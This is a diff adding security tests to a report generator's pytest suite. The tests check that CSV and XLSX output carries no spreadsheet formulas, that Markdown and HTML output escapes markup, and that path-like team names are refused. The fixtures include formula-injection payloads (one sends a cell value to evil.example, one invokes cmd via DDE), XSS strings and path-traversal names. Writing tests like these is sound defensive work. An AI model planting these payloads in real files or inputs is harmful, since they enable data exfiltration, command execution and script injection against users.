@@ -130,3 +130,46 @@ def test_report_cli_writes_one_report_per_team_from_the_published_copy(team_stor
     assert re.search(r"billing: September 2026", result.output)
     missing = CliRunner().invoke(app, ["report", "--team", "nobody", "--config", str(config), "--db", str(published)])
     assert missing.exit_code == 2 and "unknown team" in missing.output
+
+
+ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+           "<script>alert(1)</script> bad service", "<img src=x onerror=alert(1)>"]
+
+
+def _attacked(team_store):
+    import dataclasses
+
+    report = team_report(team_store, "everyone", TEAMS["everyone"], period="week")
+    quotes = [{"theme_id": 1, "text": text, "source": "t", "kind": "call_note", "received_at": report.generated_at,
+               "rating": None, "similarity": 0.9} for text in ATTACKS]
+    return dataclasses.replace(report, verbatims={"=cmd|' /C calc'!A0 <b>label</b>": quotes})
+
+
+def test_report_spreadsheet_cells_never_start_a_formula(team_store, tmp_path):
+    write_report(_attacked(team_store), tmp_path, ["csv", "xlsx"])
+    book = load_workbook(tmp_path / "everyone-week-2026-10-19.xlsx")
+    cells = [c for row in book["verbatims"].iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    assert cells and all(c.data_type != "f" and not c.value.startswith(("=", "+", "-", "@")) for c in cells)
+    assert {c.value for c in cells} >= {"'" + text for text in ATTACKS[:4]} | {ATTACKS[4]}
+    table = pacsv.read_csv(tmp_path / "everyone-week-2026-10-19" / "verbatims.csv").to_pylist()
+    texts = [row["text"] for row in table] + [row["theme"] for row in table]
+    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))] and "'" + ATTACKS[0] in texts
+
+
+def test_report_markdown_escapes_html_and_links(team_store, tmp_path):
+    write_report(_attacked(team_store), tmp_path, ["md", "html"])
+    markdown = (tmp_path / "everyone-week-2026-10-19.md").read_text(encoding="utf-8")
+    assert "<script>" not in markdown and "<img" not in markdown and "<b>" not in markdown
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; bad service" in markdown
+    html = (tmp_path / "everyone-week-2026-10-19.html").read_text(encoding="utf-8")
+    assert "<script>" not in html and "<img src=x" not in html
+
+
+@pytest.mark.parametrize("team", ["../../../escaped_team", "a/b", ".hidden", ""])
+def test_report_refuses_a_team_name_that_is_a_path(team_store, tmp_path, team):
+    import dataclasses
+
+    report = dataclasses.replace(team_report(team_store, "everyone", TEAMS["everyone"], period="week"), team=team)
+    with pytest.raises(ValueError, match="team name"):
+        write_report(report, tmp_path / "reports", ["md"])
+    assert not list(tmp_path.rglob("*.md"))
